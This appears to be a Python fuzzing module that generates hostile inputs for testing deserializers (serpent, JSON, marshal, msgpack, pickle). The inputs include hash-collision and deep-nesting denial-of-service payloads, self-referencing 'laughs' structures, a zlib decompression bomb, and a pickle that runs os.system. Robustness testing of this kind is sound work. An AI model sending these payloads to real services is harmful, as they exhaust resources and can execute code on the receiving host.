"""Payloads made to cost their reader more than they cost their sender: one builder for each way that is known."""

from __future__ import annotations

import marshal
import pickle
import struct
import zlib
from collections.abc import Callable
from functools import cache
from random import Random

Builder = Callable[[Random], bytes]

_HASH_MODULUS = 2**61 - 1


def _nested(opening: bytes, middle: bytes = b"", closing: bytes = b"") -> Builder:
    def build(random: Random) -> bytes:
        depth = random.choice([5, 99, 100, 101, 102, 500, 1100, 20_000])
        return opening * depth + middle + closing * depth

    return build


def _size(random: Random) -> int:
    return random.choice([0, 1, 100, 0x7FFF, 0xFFFF, 0x10000, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF])


def _many(random: Random) -> int:
    return int(10 ** random.uniform(1, 4.3))


def colliding_keys(random: Random) -> list[int]:
    """Numbers whose hashes are all equal, or that crowd the table of a dict although their hashes differ."""
    count = _many(random)
    if random.random() < 0.5:
        return [1 + place * _HASH_MODULUS for place in range(count)]
    mask = (1 << count.bit_length() + 1) - 1
    place, keys = 1, []
    for _ in range(count):  # the places at which dicts look one after the other
        keys.append(place)
        place = (5 * place + 1) & mask
    return keys + [1 + random.randrange(1, 64) * (mask + 1) for _ in range(min(count, 1000))]


def _marshal_set(random: Random) -> bytes:
    keys = colliding_keys(random)  # not made a set here, for that would take as long as it is meant to
    return b"<" + struct.pack("<i", len(keys)) + b"".join(map(marshal.dumps, keys))


def _marshal_dict(random: Random) -> bytes:
    return b"{" + b"".join(marshal.dumps(key) + b"N" for key in colliding_keys(random)) + b"0"


def _pickle_keys(opening: bytes, value: bytes, closing: bytes) -> Builder:
    def build(random: Random) -> bytes:
        keys = (pickle.dumps(key, 2)[2:-1] + value for key in colliding_keys(random))
        return b"\x80\x04" + opening + b"".join(keys) + closing

    return build


def _laughs(container: bytes, reference: Callable[[int], bytes]) -> Builder:
    """Containers that each hold the one before twice. `container` opens two elements and is remembered."""

    def build(random: Random) -> bytes:
        levels = random.choice([3, 20, 60, 90])
        return container * levels + b"N" + b"".join(reference(place) for place in reversed(range(levels)))

    return build


def _marshal_repeats(random: Random) -> bytes:
    count, text = _many(random), b"x" * _many(random)
    words = b"\xf5" + struct.pack("<i", len(text)) + text
    return b"[" + struct.pack("<i", count + 1) + words + (b"r" + struct.pack("<i", 0)) * count


def _pickle_repeats(random: Random) -> bytes:
    text = b"x" * _many(random)
    return b"\x80\x04](X" + struct.pack("<I", len(text)) + text + b"\x94" + b"h\x00" * _many(random) + b"e."


def _pickle_laughs(random: Random) -> bytes:
    levels = random.choice([3, 20, 60, 90])
    return b"\x80\x04K\x01\x94" + b"".join(b"h" + bytes([place]) + b"\x86\x94" for place in range(levels)) + b"."


BUILDERS: dict[str, tuple[Builder, ...]] = {
    "serpent": (
        _nested(b"(", b"1", b",)"),
        _nested(b"["),
        _nested(b"{1:", b"1", b"}"),
        lambda random: b"9" * _many(random) * 4,
        lambda random: b"1e" + b"9" * _many(random),
        lambda random: b"'" + b"\\x41" * _many(random),
        lambda random: b"['" + b"\\n'" * _many(random),
        lambda random: ("{" + ",".join(map(str, colliding_keys(random))) + "}").encode(),
        lambda random: ("{" + ",".join(f"{key}:1" for key in colliding_keys(random)) + "}").encode(),
        lambda random: b"[" + b"{}," * _many(random) + b"]",
        lambda random: b"# " + b"#\n" * _many(random) + b"1",
    ),
    "json": (
        _nested(b"[", b"1", b"]"),
        _nested(b'{"a":', b"1", b"}"),
        lambda random: b"9" * _many(random) * 4,
        lambda random: b"1e" + b"9" * _many(random),
        lambda random: b'["' + b'\\"' * _many(random),
        lambda random: b"[" + b"[]," * _many(random) + b"0]",
        lambda random: b'["\\ud800", "' + b"\\u0000" * _many(random) + b'"]',
        lambda random: b"[" + b'{"__class__":"KeyError","args":["x"]},' * _many(random) + b"0]",
        lambda random: (
            b'{"__class__":"Pyro4.core.Proxy","state":["PYRO:' + b"@" * _many(random) + b'",[],[],[],0,"b64:",0,0]}'
        ),
    ),
    "marshal": (
        _nested(b"(\x01\x00\x00\x00", b"N"),
        _nested(b"{N", b"N", b"0"),
        lambda random: b"\xdb\x01\x00\x00\x00r\x00\x00\x00\x00",
        lambda random: (
            random.choice([b"[", b"(", b"s", b"l", b"u", b"<", b">", b"a"]) + struct.pack("<I", _size(random))
        ),
        _marshal_set,
        _marshal_dict,
        lambda random: marshal.dumps(compile("1", "x", "eval")),
        lambda random: b"[" + struct.pack("<i", 20_000) + b"{0" * 20_000,
        _laughs(b"\xdb\x02\x00\x00\x00", lambda place: b"r" + struct.pack("<i", place)),
        _marshal_repeats,
    ),
    "msgpack": (
        _nested(b"\x91", b"\x01"),
        _nested(b"\x81\xa1a", b"\x01"),
        lambda random: (b"\xdd" + struct.pack(">I", _size(random))) * random.choice([1, 50, 500]) + b"\x01" * 5000,
        lambda random: random.choice([b"\xdf", b"\xc6", b"\xdb", b"\xc9"]) + struct.pack(">I", _size(random)) + b"\x31",
        lambda random: b"\xc8\xff\xff\x31" + b"9" * 0xFFFF,
        lambda random: b"\xdd" + struct.pack(">I", 20_000) + b"\x80" * 20_000,
        lambda random: b"\xd7\xff" + random.randbytes(8),
        lambda random: bytes([0xC7, 12, random.randrange(0x2F, 0x35)]) + random.randbytes(12),
    ),
    "pickle": (
        _nested(b"\x80\x04]", b"K\x01", b"a"),
        lambda random: b"\x80\x04" + b"]" * 200 + b"K\x01" + b"a" * 200 + b".",
        lambda random: b"\x80\x04" + b"(" * _many(random) + b".",
        lambda random: b"\x80\x04" + random.choice([b"\x8d", b"\x8e", b"\x95"]) + random.randbytes(8) + b"x" * 50,
        lambda random: (
            b"\x80\x04" + random.choice([b"X", b"B", b"\x8b"]) + struct.pack("<I", _size(random)) + b"x" * 50
        ),
        lambda random: b"\x80\x04]\x94h\x00a.",
        lambda random: b"\x80\x04ccopyreg\n_reconstructor\n(cbuiltins\nobject\ncbuiltins\nobject\nNtR.",
        lambda random: b"\x80\x04cos\nsystem\n(X\x04\x00\x00\x00truetR.",
        _pickle_keys(b"\x8f(", b"", b"\x90."),
        _pickle_keys(b"}(", b"N", b"u."),
        lambda random: b"\x80\x04I" + b"9" * _many(random) + b"\n.",
        _pickle_repeats,
        _pickle_laughs,
    ),
}
BUILDERS["dill"] = BUILDERS["cloudpickle"] = BUILDERS["pickle"]


@cache
def bomb(megabytes: int) -> bytes:
    """A zlib stream of zeros, a thousandth of what it unfolds to."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(2**20)) for _ in range(megabytes)) + packer.flush()
